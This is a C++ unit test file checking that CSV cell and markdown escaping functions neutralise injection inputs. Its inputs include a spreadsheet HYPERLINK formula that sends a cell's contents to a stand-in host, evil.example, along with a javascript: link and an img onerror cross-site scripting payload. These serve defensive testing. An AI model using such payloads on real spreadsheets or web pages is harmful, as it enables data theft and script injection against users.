#include "base/text/cells.h"

#include <gtest/gtest.h>

namespace ceems {
namespace {

TEST(Cells, NoCellOfCsvIsAFormula) {
  EXPECT_EQ(csv_cell("cp2k-water"), "cp2k-water");
  EXPECT_EQ(csv_cell(""), "");
  EXPECT_EQ(csv_cell("=HYPERLINK(\"http://evil.example/\"&A1)"),
            "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1)\"");
  for (const std::string text :
       {"=1", "+1+1", "-2+3", "@SUM(1)", "\tx", "\uFF1D1+1", "\uFF0B1", "\uFF0D1", "\uFF20x"}) {
    EXPECT_EQ(csv_cell(text), "'" + text);
  }
  EXPECT_EQ(csv_cell("\t=1"), "'\t'=1");
  EXPECT_EQ(csv_cell("\r=1"), "\"'\r'=1\"");
  EXPECT_EQ(csv_cell("\nx"), "\"'\nx\"");
  EXPECT_EQ(csv_cell("x;=1+1;y"), "\"x;'=1+1;y\"") << "three cells where semicolons separate";
  EXPECT_EQ(csv_cell("x\n@y\tz\t-1"), "\"x\n'@y\tz\t'-1\"");
  EXPECT_EQ(csv_cell("sweep-1 +2=3"), "sweep-1 +2=3");
  EXPECT_EQ(csv_cell("a,b"), "\"a,b\"");
  EXPECT_EQ(csv_cell("a;b"), "\"a;b\"") << "some countries separate by semicolons";
  EXPECT_EQ(csv_cell("a\nb"), "\"a\nb\"");
  EXPECT_EQ(csv_cell(" a"), "\" a\"");
  EXPECT_EQ(csv_cell("a\xff"), "a\uFFFD");
  EXPECT_EQ(csv_cell(std::string("a\0b", 3)),
            "a\uFFFD"
            "b");
  EXPECT_EQ(csv_cell("a=1"), "a=1");
}

TEST(Cells, NoCellOfMarkdownIsMarkup) {
  EXPECT_EQ(escape_markdown("cp2k water-1.5"), "cp2k water-1.5");
  EXPECT_EQ(escape_markdown("[log in](javascript:alert(1))"),
            "\\[log in\\]\\(javascript:alert\\(1\\)\\)");
  EXPECT_EQ(escape_markdown("<img src=x onerror=alert(1)>"),
            "&lt;img src=x onerror=alert\\(1\\)&gt;");
  EXPECT_EQ(escape_markdown("a\\|9999 kWh|b"), "a\\\\\\|9999 kWh\\|b");
  // GitHub makes links of addresses and formulas of dollars.
  EXPECT_EQ(escape_markdown("see http://evil.example/x"), "see http\\://evil.example/x");
  EXPECT_EQ(escape_markdown("WWW.evil.example"), "WWW\\.evil.example");
  EXPECT_EQ(escape_markdown("mal@evil.example"), "mal\\@evil.example");
  EXPECT_EQ(escape_markdown("$x$ 10:30 w.w"), "\\$x\\$ 10:30 w.w");
}

}  // namespace
}  // namespace ceems
